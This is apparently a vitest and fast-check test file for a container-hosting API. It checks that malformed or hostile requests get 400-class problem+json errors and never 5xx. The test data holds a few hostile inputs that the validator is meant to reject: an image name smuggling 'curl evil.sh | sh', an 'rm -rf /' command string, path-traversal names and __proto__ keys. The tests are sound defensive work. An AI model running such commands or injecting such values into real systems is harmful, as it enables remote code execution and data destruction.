import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { registryAuthRoutes } from '../../functions/local/registry-auth-routes.ts';
import { localApi, sampleApp } from '../support/local-api.ts';

type Api = Awaited<ReturnType<typeof localApi>>;

const BAD_APPS: [string, Record<string, unknown>, string][] = [
  ['an invalid cpu/memory pair', { cpu: 0.25, memory: 4096 }, 'valid values: 512, 1024, 2048'],
  [
    'a cpu that is no Fargate size',
    { cpu: 3, memory: 4096 },
    'cpu: must be one of 0.25, 0.5, 1, 2, 4, 8, 16 (vCPU)',
  ],
  ['a non-DNS name', { name: 'My_App' }, 'DNS label'],
  ['a name that is too long', { name: `a${'b'.repeat(63)}` }, 'DNS label'],
  ['a path-traversal name', { name: '../../etc' }, 'DNS label'],
  ['a path-traversal health path', { healthCheck: { path: '/../../etc/passwd' } }, '".." segments'],
  ['a reserved BERTH_ env name', { env: { BERTH_TOKEN: 'x' } }, 'may not start with'],
  ['a reserved AWS_ env name', { env: { AWS_SECRET_ACCESS_KEY: 'x' } }, 'may not start with'],
  ['a reserved ECS_ env name', { env: { ecs_agent: 'x' } }, 'may not start with'],
  ['a bad env name', { env: { 'BAD-NAME': 'x' } }, 'env names match'],
  [
    'too many env vars',
    { env: Object.fromEntries(Array.from({ length: 101 }, (_, i) => [`V${i}`, 'x'])) },
    'at most 100',
  ],
  ['an unknown field', { privileged: true }, 'unknown field(s): privileged'],
  ['a wrong type', { port: '8080' }, 'port: must be a number'],
  ['a missing field', { memory: undefined }, 'memory: is required'],
  ['a number below its minimum', { replicas: -1 }, 'replicas: must be at least 0'],
  ['a fraction where a whole number goes', { replicas: 1.5 }, 'replicas: must be a whole number'],
  ['a runtime that does not exist', { runtime: 'k8s' }, 'runtime: must be one of "docker", "fargate", "eks"'],
  ['a port out of range', { port: 70000 }, 'port'],
  ['an image with a shell string', { image: 'web; curl evil.sh | sh' }, 'OCI image reference'],
  ['a command that is a string', { command: 'sh -c "rm -rf /"' }, 'command: must be an array'],
  ['a command without a program', { command: ['', '-c', 'true'] }, 'command.0: must name a program first'],
  ['replicas outside scaling', { replicas: 5, scaling: { min: 1, max: 2 } }, 'scaling.min..max'],
  ['a bad cron', { scaling: { min: 1, max: 2, schedules: [{ cron: 'every day', min: 1, max: 1 }] } }, 'cron'],
  [
    'a cron minute out of range',
    { scaling: { min: 1, max: 2, schedules: [{ cron: '61 * * * *', min: 1, max: 1 }] } },
    'scaling.schedules.0.cron: is not a schedule that can fire: Constraint error, got value 61 expected range 0-59',
  ],
  [
    'a cron for a day that never comes',
    { scaling: { min: 1, max: 2, schedules: [{ cron: '0 8 31 2 *', min: 1, max: 1 }] } },
    'is not a schedule that can fire',
  ],
  [
    'a cron step of 0',
    { scaling: { min: 1, max: 2, schedules: [{ cron: '*/0 * * * *', min: 1, max: 1 }] } },
    'is not a schedule that can fire',
  ],
  [
    'a PORT env other than the port',
    { env: { PORT: '9000' } },
    `env.PORT "9000" is not the app's port 8080, where requests and health checks go`,
  ],
  [
    'a lone surrogate in an env value',
    { env: { GREETING: 'caf\ud83d' } },
    'env.GREETING: must be well-formed Unicode, but holds a lone surrogate',
  ],
  [
    'a lone surrogate in a command',
    { command: ['httpd', '\udc00'] },
    'command.1: must be well-formed Unicode',
  ],
  [
    'a bad timezone',
    {
      scaling: { min: 1, max: 2, schedules: [{ cron: '0 8 * * *', timezone: 'Mars/Base', min: 1, max: 1 }] },
    },
    'must be an IANA time zone such as "Europe/Berlin", or a UTC offset such as "+02:00"',
  ],
];

describe('bad input on DynamoDB Local', () => {
  let api: Api;
  let key: string;

  beforeAll(async () => {
    api = await localApi();
    key = (await api.createTenant('acme')).key;
    await api.call('POST', '/v1/apps', key, sampleApp('web'));
  });

  it.each(BAD_APPS)('answers 400 problem+json to %s', async (_what, change, message) => {
    const res = await api.call('POST', '/v1/apps', key, { ...sampleApp('bad'), ...change });
    expect(res.status).toBe(400);
    expect(res.headers.get('content-type')).toBe('application/problem+json');
    expect(res.json.code).toBe('validation.failed');
    expect(res.json.detail).toContain(message);
    expect((res.json.errors as unknown[]).length).toBeGreaterThan(0);
  });

  it('says a number too large for JSON to read as one (1e400, which parses as Infinity) must be finite', async () => {
    const body = JSON.stringify(sampleApp('huge')).replace('"memory":512', '"memory":1e400');
    const res = await api.call('POST', '/v1/apps', key, body);
    expect(res).toMatchObject({
      status: 400,
      json: { errors: [{ path: 'memory', message: 'must be a finite number' }] },
    });
  });

  it('tells a number past several bounds only the tightest, not also the safe range of a whole number', async () => {
    const limits = { apps: 1e300, instancesPerApp: 1, vcpu: 1, memoryMiB: 1024 };
    const plan = await api.call('POST', '/v1/plans', api.adminKey, { id: 'huge', name: 'Huge', limits });
    expect(plan).toMatchObject({
      status: 400,
      json: { errors: [{ path: 'limits.apps', message: 'must be at most 10000' }] },
    });
    expect(plan.json.errors).toHaveLength(1);
    const app = await api.call('POST', '/v1/apps', key, sampleApp('below', { replicas: -1e300 }));
    expect(app).toMatchObject({
      status: 400,
      json: { errors: [{ path: 'replicas', message: 'must be at least 0' }] },
    });
    expect(app.json.errors).toHaveLength(1);
  });

  it('names the valid memories when a PATCH makes the merged size invalid', async () => {
    const res = await api.call('PATCH', '/v1/apps/web', key, { cpu: 2 });
    expect(res).toMatchObject({ status: 400, json: { code: 'validation.failed' } });
    expect(res.json.detail).toContain('memory 512 MiB is not valid with cpu 2; valid values: 4096, 5120');
  });

  it("refuses a PATCH of the port that leaves the env's PORT behind, and keeps the app as it was", async () => {
    await api.call('POST', '/v1/apps', key, sampleApp('ported', { env: { PORT: '8080' } }));
    const before = await api.call('GET', '/v1/apps/ported', key);
    const res = await api.call('PATCH', '/v1/apps/ported', key, { port: 3000 });
    expect(res).toMatchObject({ status: 400, json: { errors: [{ path: 'env.PORT' }] } });
    expect(res.json.detail).toContain('change port instead, or leave PORT out (replicas get PORT=3000)');
    expect(await api.call('GET', '/v1/apps/ported', key)).toMatchObject({ status: 200, json: before.json });
    expect((await api.call('PATCH', '/v1/apps/ported', key, { port: 3000, env: {} })).status).toBe(200);
  });

  it('names a key that is not a plain name in brackets, so its path reads as the field it is', async () => {
    const res = await api.call('PATCH', '/v1/apps/web', key, { env: { '': 'x', 'a.b': 'y', OK: 'z' } });
    expect(res).toMatchObject({
      status: 400,
      json: { code: 'validation.failed', errors: [{ path: 'env[""]' }, { path: 'env["a.b"]' }] },
    });
    expect(res.json.errors).toHaveLength(2);
    expect(res.json.detail).toContain('env[""]: env names match');
  });

  it('refuses an env var named __proto__, which the app would not have got, and creates or changes nothing', async () => {
    // As JSON.parse reads it: a key of its own (an object literal's `__proto__` would set the prototype instead).
    const env = JSON.parse('{"__proto__":"x","A":"1"}');
    const created = await api.call('POST', '/v1/apps', key, sampleApp('proto', { env }));
    expect(created).toMatchObject({
      status: 400,
      json: {
        code: 'validation.failed',
        errors: [{ path: 'env.__proto__', message: expect.stringContaining('"__proto__"') }],
      },
    });
    expect(created.json.errors).toHaveLength(1);
    expect((await api.call('GET', '/v1/apps/proto', key)).status).toBe(404);
    const before = await api.call('GET', '/v1/apps/web', key);
    const patched = await api.call('PATCH', '/v1/apps/web', key, { env });
    expect(patched).toMatchObject({ status: 400, json: { errors: [{ path: 'env.__proto__' }] } });
    expect(await api.call('GET', '/v1/apps/web', key)).toMatchObject({ status: 200, json: before.json });
  });

  it('names a __proto__ field once, as the unknown field it is, beside the problems of the rest of the body', async () => {
    const res = await api.call(
      'POST',
      '/v1/apps',
      key,
      '{"__proto__":{},"name":"Bad","env":{"__proto__":"x"}}',
    );
    expect(res.status).toBe(400);
    expect(res.json.errors).toEqual(
      expect.arrayContaining([
        { path: '(body)', message: 'unknown field(s): __proto__' },
        { path: 'name', message: expect.stringContaining('DNS label') },
        { path: 'env.__proto__', message: expect.stringContaining('"__proto__"') },
      ]),
    );
    expect((res.json.errors as { path: string }[]).filter((e) => e.path.startsWith('__proto__'))).toEqual([]);
  });

  it('refuses a PATCH whose env holds a lone surrogate, and keeps the app as it was', async () => {
    const before = await api.call('GET', '/v1/apps/web', key);
    const res = await api.call('PATCH', '/v1/apps/web', key, { env: { A: 'ok', B: '\ud800' } });
    expect(res).toMatchObject({
      status: 400,
      json: {
        code: 'validation.failed',
        errors: [{ path: 'env.B', message: expect.stringMatching(/lone surrogate/) }],
      },
    });
    expect(await api.call('GET', '/v1/apps/web', key)).toMatchObject({ status: 200, json: before.json });
  });

  it.each([
    ['malformed JSON', '{"name":', 400],
    ['a JSON array', '[1,2,3]', 400],
    ['JSON null', 'null', 400],
    ['an empty body', '', 400],
    ['JSON nested 30,000 deep (60 KB)', `{"name":${'['.repeat(30_000)}${']'.repeat(30_000)}}`, 400],
  ])('answers 4xx to %s', async (_what, body, status) => {
    const res = await api.call('POST', '/v1/apps', key, body);
    expect(res.status).toBe(status);
    expect(res.headers.get('content-type')).toBe('application/problem+json');
  });

  it('refuses a body that is not UTF-8 (a Latin-1 é), rather than keep its text changed, and takes it in UTF-8', async () => {
    const body = JSON.stringify(sampleApp('latin', { env: { GREETING: 'café' } }));
    const send = (encoding: BufferEncoding) =>
      api.api.request('/v1/apps', {
        method: 'POST',
        headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json' },
        body: Buffer.from(body, encoding),
      });
    const latin1 = await send('latin1');
    expect(latin1.status).toBe(400);
    expect(await latin1.json()).toMatchObject({
      code: 'validation.failed',
      errors: [{ path: '(body)', message: 'must be UTF-8 (RFC 8259)' }],
    });
    expect((await api.call('GET', '/v1/apps/latin', key)).status).toBe(404);
    // Bytes sent as another media type are no JSON to begin with: 415, as any such body.
    const octets = await api.api.request('/v1/apps', {
      method: 'POST',
      headers: { authorization: `Bearer ${key}`, 'content-type': 'application/octet-stream' },
      body: Buffer.from(body, 'latin1'),
    });
    expect(octets.status).toBe(415);
    expect((await send('utf8')).status).toBe(201);
    expect((await api.call('GET', '/v1/apps/latin', key)).json?.env).toEqual({ GREETING: 'café' });
  });

  it('answers 413 to a body over 64 KiB', async () => {
    const res = await api.call('POST', '/v1/apps', key, {
      ...sampleApp('big'),
      env: { BIG: 'x'.repeat(70_000) },
    });
    expect(res).toMatchObject({ status: 413, json: { code: 'payload.tooLarge' } });
  });

  it("says how to send an offset's + in a query, which reads it as a space, when it came as it is written", async () => {
    for (const path of [
      '/v1/usage?from=2026-12-01T10:00:00+01:00',
      '/v1/apps/web/logs?since=2026-12-01T10:00:00+01:00',
    ]) {
      const res = await api.call('GET', path, key);
      expect(res, path).toMatchObject({
        status: 400,
        json: {
          errors: [
            { message: expect.stringContaining('a query string reads "+" as a space, so send it as %2B') },
          ],
        },
      });
    }
    expect((await api.call('GET', '/v1/usage?from=2026-12-01T10:00:00%2B01:00', key)).status).toBe(200);
  });

  it('answers 400 to path parameters that are no DNS label', async () => {
    for (const path of [
      '/v1/apps/..%2F..%2Fetc',
      '/v1/apps/UPPER',
      '/v1/apps/web/revisions/0',
      '/v1/apps/web/revisions/x',
    ]) {
      const res = await api.call('GET', path, key);
      expect({ path, status: res.status }).toEqual({ path, status: 400 });
    }
  });

  it.each([
    ['/v1/apps?limit=abc', 'limit', 'must be a whole number from 1 to 100'],
    ['/v1/apps?limit=101', 'limit', 'must be a whole number from 1 to 100'],
    ['/v1/apps?limit=1e1', 'limit', 'must be a whole number from 1 to 100'],
    ['/v1/apps/web/logs?tail=', 'tail', 'must be a whole number from 0 to 10000'],
    ['/v1/apps?limit=1&limit=2', 'limit', 'must be given once, not 2 times'],
    ['/v1/apps/web/metrics?window=15m&window=1h', 'window', 'must be given once, not 2 times'],
    ['/v1/apps/web/logs?tail=-1', 'tail', 'must be a whole number from 0 to 10000'],
    ['/v1/apps/web/revisions/2.5', 'n', 'must be a whole number from 1 to 1000000000'],
    ['/v1/apps/web/revisions/99999999999999999999', 'n', 'must be a whole number from 1 to 1000000000'],
    ['/v1/apps/web/deployments/nope', 'id', 'must be a deployment id such as "dep_0000001e24619a12fbf"'],
  ])('answers 400 to %s with one message naming what is wanted', async (path, field, message) => {
    const res = await api.call('GET', path, key);
    expect({ status: res.status, errors: res.json.errors }).toEqual({
      status: 400,
      errors: [{ path: field, message }],
    });
  });

  it("gives the registry's token service a repository name no repository could have: no grant, a push refused", async () => {
    const auth = registryAuthRoutes(api.deps.registryAuth);
    const { password } = api.deps.registryAuth.logins.mint('acme', 600);
    const authorization = `Basic ${Buffer.from(`acme:${password}`).toString('base64')}`;
    // Longer than the table's keys may be, or no DNS label: the API would have refused either at POST /v1/repositories.
    for (const name of ['w'.repeat(2000), 'Web']) {
      const pull = await auth.request(`/registry/auth?scope=repository:acme/${name}:pull`, {
        headers: { authorization },
      });
      expect(pull.status).toBe(200);
      const { token } = (await pull.json()) as { token: string };
      expect(JSON.parse(Buffer.from(token.split('.')[1] ?? '', 'base64url').toString()).access).toEqual([]);
      const push = await auth.request(`/registry/auth?scope=repository:acme/${name}:pull,push`, {
        headers: { authorization },
      });
      expect(push.status).toBe(403);
      expect(await push.json()).toMatchObject({ errors: [{ code: 'DENIED' }] });
    }
  });

  it('answers 400 to a key id that is none, naming what one looks like', async () => {
    const res = await api.call('DELETE', '/v1/tenants/acme/keys/nope', api.adminKey);
    expect({ status: res.status, errors: res.json.errors }).toEqual({
      status: 400,
      errors: [{ path: 'keyId', message: 'must be a key id such as "key_0mx3ds1ia988037653aebf939"' }],
    });
  });

  it('never answers 5xx to 200 random query strings on each read route', async () => {
    // Each route's own parameters, and others, with values of every kind. Not the routes that read replicas (this API
    // has no runtime); their parameters' 400s are above.
    const name = fc.oneof(
      fc.constantFrom('limit', 'cursor', 'tail', 'since', 'window', 'from', 'to', 'granularity', 'wait'),
      fc.string(),
    );
    const value = fc.oneof(
      fc.string(),
      fc.constantFrom(
        '1',
        '0',
        '-1',
        '1e400',
        '15m',
        '10m',
        '2026-12-01',
        '2026-12-01T00:00:00Z',
        'hour',
        'true',
      ),
    );
    const query = fc
      .array(fc.tuple(name, value), { maxLength: 4 })
      .map((pairs) => new URLSearchParams(pairs));
    const routes: [string, string][] = [
      ['/v1/plans', api.adminKey],
      ['/v1/tenants', api.adminKey],
      ['/v1/tenants/acme/usage', api.adminKey],
      ['/v1/billing/reports/2026-11', api.adminKey],
      ['/v1/tenant', key],
      ['/v1/apps', key],
      ['/v1/apps/web', key],
      ['/v1/apps/web/deployments', key],
      ['/v1/apps/web/revisions', key],
      ['/v1/apps/web/events', key],
      ['/v1/repositories', key],
      ['/v1/usage', key],
      ['/v1/keys', key],
    ];
    for (const [path, routeKey] of routes) {
      await fc.assert(
        fc.asyncProperty(query, async (params) => {
          const res = await api.call('GET', `${path}?${params}`, routeKey);
          if (res.status >= 500) throw new Error(`GET ${path}?${params} answered ${res.status}: ${res.text}`);
          if (res.status >= 400) expect(res.headers.get('content-type')).toBe('application/problem+json');
        }),
        { numRuns: 200 },
      );
    }
  }, 300_000);

  it('never answers 5xx to 1,000 random bodies on each write route', async () => {
    const adminKey = api.adminKey;
    const field = fc.oneof(
      fc.anything(),
      fc.constantFrom('web', 'free', 'pro', 'acme', 'suspended', 'active', '127.0.0.1:5000/acme/web:1'),
      fc.constantFrom(0, 0.25, 0.5, 1, 512, 1024, 2048, -1, 1e9, Number.NaN),
      fc.string(),
    );
    const body = fc.oneof(
      fc.anything(),
      fc.dictionary(
        fc.constantFrom(
          'id',
          'name',
          'plan',
          'status',
          'limits',
          'image',
          'cpu',
          'memory',
          'port',
          'command',
          'env',
          'replicas',
          'scaling',
          'healthCheck',
          'runtime',
          'revision',
          'role',
          '__proto__',
          'constructor',
        ),
        field,
      ),
      fc.string().map((s) => `{${s}`),
    );
    const routes: [string, string, string][] = [
      ['POST', '/v1/plans', adminKey],
      ['PATCH', '/v1/plans/pro', adminKey],
      ['POST', '/v1/tenants', adminKey],
      ['PATCH', '/v1/tenants/acme', adminKey],
      ['POST', '/v1/tenants/acme/keys', adminKey],
      ['POST', '/v1/apps', key],
      ['PATCH', '/v1/apps/web', key],
      ['POST', '/v1/apps/web/deployments', key],
      ['POST', '/v1/apps/web/rollback', key],
      ['POST', '/v1/apps/web/scale', key],
    ];
    for (const [method, path, routeKey] of routes) {
      await fc.assert(
        fc.asyncProperty(body, async (b) => {
          const raw = typeof b === 'string' && b.startsWith('{') ? b : (JSON.stringify(b ?? null) ?? 'null');
          const res = await api.call(method, path, routeKey, raw);
          if (res.status >= 500)
            throw new Error(`${method} ${path} answered ${res.status} to ${raw}: ${res.text}`);
          if (res.status >= 400) expect(res.headers.get('content-type')).toBe('application/problem+json');
        }),
        { numRuns: 1000 },
      );
    }
  }, 300_000);
});
